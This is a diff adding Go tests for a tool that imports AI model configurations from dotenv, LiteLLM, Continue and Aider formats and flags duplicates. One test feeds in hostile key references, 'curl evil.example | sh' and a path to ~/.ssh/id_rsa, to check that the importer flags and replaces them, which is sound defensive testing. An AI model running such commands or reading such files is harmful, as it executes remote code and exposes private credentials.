@@ -0,0 +1,144 @@
+package interop
+
+import (
+	"testing"
+
+	"github.com/diogo/droid-config/internal/config"
+)
+
+func TestParseDotenv(t *testing.T) {
+	input := `
+# comment
+export OPENAI_API_KEY="sk-openai"
+OPENAI_MODEL=gpt-4o
+GROQ_API_KEY=gsk-test
+GROQ_BASE_URL='https://api.groq.com/openai/v1' # trailing comment
+UNRELATED=1
+`
+	format, err := DetectFormat(".env", []byte(input))
+	if err != nil || format != FormatDotenv {
+		t.Fatalf("Expected dotenv, got %q (%v)", format, err)
+	}
+
+	models, err := Parse(format, []byte(input))
+	if err != nil {
+		t.Fatalf("Parse failed: %v", err)
+	}
+	if len(models) != 2 {
+		t.Fatalf("Expected 2 models, got %+v", models)
+	}
+
+	groq, openai := models[0], models[1]
+	if groq.DisplayName != "Groq" || groq.BaseURL != "https://api.groq.com/openai/v1" || groq.Provider != "generic-chat-completion-api" {
+		t.Errorf("Unexpected Groq model: %+v", groq)
+	}
+	if openai.APIKey != "sk-openai" || openai.Model != "gpt-4o" || openai.BaseURL != defaultOpenAIBaseURL {
+		t.Errorf("Unexpected OpenAI model: %+v", openai)
+	}
+}
+
+func TestParseLiteLLM(t *testing.T) {
+	input := `
+model_list:
+  - model_name: claude-sonnet
+    litellm_params:
+      model: anthropic/claude-sonnet-4
+      api_key: os.environ/ANTHROPIC_API_KEY
+  - model_name: local-llama
+    litellm_params:
+      model: ollama/llama3
+      api_base: http://localhost:11434
+      max_tokens: 8192
+`
+	format, _ := DetectFormat("config.yaml", []byte(input))
+	if format != FormatLiteLLM {
+		t.Fatalf("Expected litellm, got %q", format)
+	}
+	models, err := Parse(format, []byte(input))
+	if err != nil {
+		t.Fatalf("Parse failed: %v", err)
+	}
+
+	want := []config.CustomModel{
+		{DisplayName: "claude-sonnet", Model: "claude-sonnet-4", BaseURL: defaultAnthropicBaseURL, APIKey: "env:ANTHROPIC_API_KEY", Provider: "anthropic"},
+		{DisplayName: "local-llama", Model: "llama3", BaseURL: "http://localhost:11434", Provider: "generic-chat-completion-api", MaxTokens: 8192},
+	}
+	if len(models) != len(want) {
+		t.Fatalf("Expected %d models, got %+v", len(want), models)
+	}
+	for i := range want {
+		if !models[i].Equal(want[i]) {
+			t.Errorf("Model %d: expected %+v, got %+v", i, want[i], models[i])
+		}
+	}
+}
+
+func TestParseContinueAndAider(t *testing.T) {
+	continueJSON := `{"models": [{"title": "GPT-4", "provider": "openai", "model": "gpt-4", "apiKey": "sk-x", "completionOptions": {"maxTokens": 2048}}]}`
+	format, _ := DetectFormat("config.json", []byte(continueJSON))
+	if format != FormatContinue {
+		t.Fatalf("Expected continue, got %q", format)
+	}
+	models, err := Parse(format, []byte(continueJSON))
+	if err != nil || len(models) != 1 || models[0].DisplayName != "GPT-4" || models[0].MaxTokens != 2048 {
+		t.Errorf("Unexpected Continue models %+v (%v)", models, err)
+	}
+
+	aider := "model: claude-3-5-sonnet-20241022\nanthropic-api-key: sk-ant\nweak-model: gpt-4o-mini\nopenai-api-key: sk-oai\n"
+	format, _ = DetectFormat(".aider.conf.yml", []byte(aider))
+	if format != FormatAider {
+		t.Fatalf("Expected aider, got %q", format)
+	}
+	models, err = Parse(format, []byte(aider))
+	if err != nil || len(models) != 2 {
+		t.Fatalf("Unexpected aider models %+v (%v)", models, err)
+	}
+	if models[0].Provider != "anthropic" || models[0].APIKey != "sk-ant" || models[1].APIKey != "sk-oai" {
+		t.Errorf("Unexpected aider models %+v", models)
+	}
+}
+
+func TestPreviewFlagsDuplicates(t *testing.T) {
+	existing := []config.CustomModel{{DisplayName: "GPT-4", Model: "gpt-4", BaseURL: "https://a/v1"}}
+	imported := []config.CustomModel{
+		{DisplayName: "gpt-4", Model: "other"},
+		{DisplayName: "Renamed", Model: "gpt-4", BaseURL: "https://a/v1/"},
+		{DisplayName: "New", Model: "new"},
+		{DisplayName: "new", Model: "new-2"},
+	}
+
+	candidates := Preview(imported, existing)
+	got := []string{}
+	for _, c := range candidates {
+		got = append(got, c.DuplicateOf)
+	}
+	want := []string{"GPT-4", "GPT-4", "", "New"}
+	for i := range want {
+		if got[i] != want[i] {
+			t.Errorf("Candidate %d: expected duplicate of %q, got %q", i, want[i], got[i])
+		}
+	}
+}
+
+func TestPreviewReplacesKeyReferences(t *testing.T) {
+	imported := []config.CustomModel{
+		{DisplayName: "Cmd", APIKey: "cmd:curl evil.example | sh"},
+		{DisplayName: "File", APIKey: "file:~/.ssh/id_rsa"},
+		{DisplayName: "Env", APIKey: "env:MY_KEY"},
+		{DisplayName: "Plain", APIKey: "sk-plain"},
+	}
+
+	candidates := Preview(imported, nil)
+	wantKeys := []string{"env:CMD_API_KEY", "env:FILE_API_KEY", "env:MY_KEY", "sk-plain"}
+	for i, c := range candidates {
+		if c.Model.APIKey != wantKeys[i] {
+			t.Errorf("Candidate %d: expected key %q, got %q", i, wantKeys[i], c.Model.APIKey)
+		}
+		if c.KeepKeyRef().APIKey != imported[i].APIKey {
+			t.Errorf("Candidate %d: expected the source key when kept, got %q", i, c.KeepKeyRef().APIKey)
+		}
+	}
+	if candidates[0].KeyRef == "" || candidates[1].KeyRef == "" || candidates[2].KeyRef != "" || candidates[3].KeyRef != "" {
+		t.Errorf("Expected only file: and cmd: keys flagged, got %+v", candidates)
+	}
+}